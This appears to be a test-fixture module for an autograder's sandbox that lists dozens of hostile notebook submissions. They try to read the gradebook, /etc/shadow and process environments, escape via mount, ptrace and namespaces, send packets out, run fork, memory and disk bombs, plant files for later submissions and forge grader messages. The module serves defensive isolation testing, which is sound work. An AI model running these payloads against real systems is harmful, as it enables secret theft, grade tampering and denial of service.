"""Hostile submissions: what each tries, as code that runs when its first solution cell does.

``lost`` names the points that it costs the attacker. What none of them may achieve is checked outside of them, in
``test_attacks.py``; a place in ``{braces}`` is filled in there.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    what: str
    code: str
    lost: float = 0


LOSES_THE_CELL = 6.0  # the cell holds two tasks, of 3 points each

SEARCH = """
import os
def search(top, depth=4):
    for place, folders, names in os.walk(top):
        if place.count("/") > depth: folders.clear()
        if place.startswith(("/proc", "/usr/share")): folders.clear(); continue
        for name in names:
            try:
                with open(os.path.join(place, name), "rb") as file: data = file.read(10**6)
            except OSError: continue
            if b"{canary}"[:6] in data: print("FOUND", place, name, data[:200])
"""

SYSCALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""

ATTACKS = {
    # read
    "read the source": Attack("open the instructor's notebook", "print(open('{course}/source/ex04/nb.ipynb').read())"),
    "read the gradebook": Attack("open the gradebook", "print(open('{course}/gradebook.db', 'rb').read())"),
    "read another student": Attack("list submissions", "import os; print(os.listdir('{course}/submitted'))"),
    "read the home": Attack("read files of the instructor", "print(open('{home}/secret').read())"),
    "read the exchange": Attack(
        "read the nbgrader exchange", "import os; print(os.listdir('/usr/local/share/nbgrader'))"
    ),
    "read the environment": Attack("look for secrets in the environment", "import os; print(dict(os.environ))"),
    "read the environment of others": Attack(
        "look into the environment of all processes",
        "import glob\nfor f in glob.glob('/proc/*/environ'):\n    try: print(open(f, 'rb').read())\n    except OSError: pass",
    ),
    "read the host's users": Attack(
        "read /etc/shadow and /etc/passwd", "print(open('/etc/passwd').read()); open('/etc/shadow')"
    ),
    "search everywhere": Attack("walk through all that is visible", SEARCH + "search('/')"),
    "search through process 1": Attack(
        "go through /proc/1/root and /proc/1/cwd", SEARCH + "search('/proc/1/root/')\nsearch('/proc/1/cwd/')"
    ),
    "search the descriptors": Attack(
        "use descriptors that were left open",
        "import os\nfor i in range(3, 256):\n    for f in ('.', '../..'):\n"
        "        try: print('FOUND', os.listdir(os.open(f, os.O_RDONLY, dir_fd=i)))\n        except OSError: pass",
    ),
    "read by a link": Attack(
        "make a link out of the own folder",
        "import os; os.symlink('{course}/gradebook.db', 'x'); print(open('x','rb').read())",
    ),
    "read the judge": Attack(
        "import the grading package", "import nbjudge.authoring.sample_class as s; print('{canary}', s)"
    ),
    "read the warm process": Attack(
        "look for inputs and solutions in memory",
        "import gc\nprint([o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o][:0])\nprint(open('/proc/1/mem','rb'))",
    ),
    # write
    "write to the course": Attack("change the gradebook", "open('{course}/gradebook.db', 'w').write('x')"),
    "write to exercise_code": Attack(
        "change what the next one imports",
        "import exercise_code, os\nopen(os.path.join(os.path.dirname(exercise_code.__file__), 'x.py'), 'w')",
    ),
    "write to Python": Attack("leave a module in site-packages", "import numpy\nopen(numpy.__file__, 'a').write('#')"),
    "write a start-up file": Attack(
        "leave usercustomize for the next",
        "import os, site\nos.makedirs(site.getusersitepackages()); open(site.getusersitepackages() + '/usercustomize.py','w').write('1/0')",
    ),
    "write to the inside": Attack("change the runner", "open('/inside/inside/forkserver.py', 'a').write('x')"),
    "write device": Attack(
        "make a device file",
        "import os, stat\nos.mknod('/tmp/sda', 0o666 | stat.S_IFBLK, os.makedev(8, 0)); open('/tmp/sda','rb')",
    ),
    "remount": Attack(
        "make the root writable", SYSCALL + "print('mount', libc.mount(b'none', b'/', None, 32, None))\nopen('/x', 'w')"
    ),
    "unmount": Attack(
        "take the private folders away",
        SYSCALL + "[libc.umount2(p, 2) for p in (b'/tmp', b'/submission', b'/proc')]\nopen('/tmp/leak', 'w')",
    ),
    # network
    "network": Attack("connect to this machine", "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2)"),
    "network outside": Attack(
        "send a packet out",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
    ),
    "abstract socket": Attack(
        "talk to an abstract socket of the host",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{abstract}')",
    ),
    "abstract socket for the next": Attack(
        "wait for the next submission at an abstract socket",
        "import socket, os\ns = socket.socket(socket.AF_UNIX); s.bind('\\0left'); s.listen()\nif os.fork() == 0: s.accept(); os._exit(0)",
    ),
    # processes
    "signal the grader": Attack("kill the grader", "import os\nos.kill({pid}, 9)"),
    "signal everything": Attack("kill all that can be killed", "import os\nos.kill(-1, 15)"),
    "signal the parents": Attack(
        "kill the parent", "import os\nos.kill(os.getppid(), 9); os.kill(1, 9); os.killpg(0, 0)"
    ),
    "trace the parent": Attack(
        "attach to process 1", SYSCALL + "print('FOUND' if libc.ptrace(16, 1, 0, 0) == 0 else 'no')"
    ),
    "write memory of the parent": Attack("open /proc/1/mem", "open('/proc/1/mem', 'r+b')\nprint('FOUND')"),
    "nested namespaces": Attack(
        "become root in a new namespace",
        SYSCALL
        + "print('FOUND' if libc.unshare(0x10000000) == 0 else 'no')\nimport subprocess\nprint(subprocess.run(['unshare', '-Ur', 'id'], capture_output=True))",
    ),
    "become root": Attack("change the user", "import os\nos.setuid(0)\nprint('FOUND')"),
    "fork bomb": Attack(
        "fork without end",
        # an interrupt that comes through ends the loop and not the cell, which then goes on as an honest one
        "import os, signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    try: os.fork()\n    except OSError: pass",
        LOSES_THE_CELL,
    ),
    "thread bomb": Attack(
        "threads without end",
        "import threading, time\nfor _ in range(5000): threading.Thread(target=time.sleep, args=(100,), daemon=True).start()",
    ),
    "memory": Attack("take all memory", "x = []\nwhile True: x.append(b'x' * 10**8)", LOSES_THE_CELL),
    "memory in files": Attack(
        "fill the private folders",
        "import os\nfor p in ('/tmp', '/dev/shm', '.'):\n    try:\n        for i in range(10**6): open(p + '/%d' % i, 'wb').write(b'x' * 10**7)\n    except OSError: pass",
    ),
    "memory nobody counts": Attack(
        "hold memory in memfd",
        "import os\nfd = [os.memfd_create('x') for _ in range(1000)]\n[os.write(f, b'x' * 10**7) for f in fd]",
    ),
    "inodes": Attack("fill the folders with empty files", "for i in range(10**6): open('/tmp/%d' % i, 'w').close()"),
    "endless output": Attack("print without end", "while True: print('x' * 10**6)"),
    "huge object": Attack("a result of 2 GB", "display({{'text/plain': 'x' * 2 * 10**9}}, raw=True)", LOSES_THE_CELL),
    # survive
    "background process": Attack(
        "stay after the end", "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '{marker}'])"
    ),
    "double fork": Attack(
        "stay as an orphan",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(10**6)\n    os._exit(0)",
    ),
    "module state": Attack(
        "change numpy and the checks for the next",
        "import numpy, nbprobe.probe as p, builtins\nnumpy.log = None; builtins.leak = 1; import sys; sys.leak = 1",
        3,
    ),
    "shared memory": Attack(
        "leave a segment",
        SYSCALL
        + "print('FOUND' if libc.shmget(77, 4096, 0o1666) != -1 else 'no')\nfrom multiprocessing import shared_memory\nshared_memory.SharedMemory('left', True, 4096)",
    ),
    "keyring": Attack(
        "leave a key in the kernel",
        SYSCALL + "print('FOUND' if libc.syscall(248, b'user', b'left', b'x', 1, -3) != -1 else 'no')",
    ),
    "files for the next": Attack(
        "leave files everywhere",
        "for p in ('/tmp/left', '/dev/shm/left', '/submission/numpy.py', 'exercise_code.py'): open(p, 'w').write('raise SystemExit')",
    ),
    # the channel to the trusted side
    "close the channel": Attack("close every descriptor", "import os\nos.closerange(3, 512)", LOSES_THE_CELL),
    "flood the channel": Attack(
        "write without end to every descriptor",
        "import os\nwhile True:\n    for i in range(3, 64):\n        try: os.write(i, b'x' * 10**6 + b'\\n')\n        except OSError: pass",
        LOSES_THE_CELL,
    ),
    "a line of 1 GB": Attack(
        "one line without end",
        "import os\nfor _ in range(1000):\n    for i in range(3, 64):\n        try: os.write(i, b'x' * 10**6)\n        except OSError: pass",
        LOSES_THE_CELL,
    ),
}

OBJECTS_OUT_OF_TURN = """
from IPython.display import display
for mime in ("image/json", "application/xjson", "text/json"):
    display({{mime: {{"a": 1}}}}, raw=True)
"""
PACKED = """
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
text = chunk(b"zTXt", b"a" + bytes(2) + zlib.compress(bytes(10**6)))
pixels = chunk(b"IDAT", zlib.compress(bytes(9 * 28)))
png = chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0)) + text * 60 + pixels + chunk(b"IEND", b"")
picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + png).decode()
for _ in range(10): display({{"image/png": picture}}, raw=True)
"""
ATTACKS |= {
    # the time and the memory of the trusted side
    "a million kinds": Attack(
        "show something in a million forms", "display({{f'a/{i}': '' for i in range(10**6)}}, raw=True)", LOSES_THE_CELL
    ),
    "texts packed into pictures": Attack("have the grader unpack what isn't shown", PACKED),
    "half a colour": Attack("break the page by a colour that says no colour", "print('\\x1b[38mX')"),
    "a title for the window": Attack("send orders to a terminal", "print('\\x1b]0;owned\\x07\\u202e' * 999)"),
    "objects as pictures": Attack("break the reader by JSON that is no JSON", OBJECTS_OUT_OF_TURN),
    "a frozen screen": Attack("write over a line without end", "print('\\r' + 'a' * 900_000)"),
    "small things": Attack(
        "write a million empty lists", "display({{'application/json': [[]] * 3 * 10**6}}, raw=True)", 6
    ),
    "many outputs": Attack("show a lot of pieces", "for i in range(5_000): display({{'text/plain': 'x'}}, raw=True)"),
    "a carpet of colours": Attack("colour every letter", "for i in range(50_000): print('\\x1b[31mx\\x1b[32my')"),
}

FLOOD = "a flood of lines"
FORGED = {
    "half a line": (b'{"cell": 3, "outputs": [', 0),
    "the result of a later cell": (b'\n{"cell": 99, "outputs": []}\n', 0),
    "the start of the last cell": (b'\n{"start": LAST}\n{"cell": LAST, "outputs": []}\n', 20),
    "the end": (b'\n{"cell": THIS, "outputs": []}\n{"end": true}\n', 20),
    "deep JSON": (b"\n" + b"[" * 10**5 + b"\n", 0),
    "NaN": (b'\n{"cell": NaN, "start": Infinity}\n', 0),
    "bad UTF-8": (b'\n\xff\xfe{"start": "\xc3"}\n', 0),
    "wrong types": (b'\n{"start": [1], "cell": {}}\n[]\n7\n"x"\nnull\n{"cell": true, "outputs": 3}\n{"end": 1}\n', 0),
    "wrong outputs": (b'\n{"cell": THIS, "outputs": [1, {}, {"output_type": "stream", "name": 3, "text": []}]}\n', 0),
    "a dict for a traceback": (
        b'\n{"cell": THIS, "outputs": [{"output_type": "error", "ename": "", "evalue": "", "traceback": {}}]}\n',
        0,
    ),
    FLOOD: (b'\n{"start": 1}' * 10**6, LOSES_THE_CELL),
    "half a character": (
        b'\n{"cell": THIS, "outputs": [{"output_type": "stream", "name": "stdout", "text": "\\ud800"}]}\n',
        0,
    ),
}
for _name, (_bytes, _lost) in FORGED.items():
    # a slow machine may interrupt the flood before it has read too much, and a cell that heeds that loses nothing
    _deaf = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n" if _name == FLOOD else ""
    # all of it, also if a watch stops the process within a write, which then has written a part
    _write = "import os\nfor i in range(3, 64):\n    data = FORGE\n    try:\n        while data: data = data[os.write(i, data) :]\n"
    _write += "    except OSError: pass"
    ATTACKS[f"forge: {_name}"] = Attack("forge a message", _deaf + f"FORGE = {_bytes!r}\n" + _write, _lost)
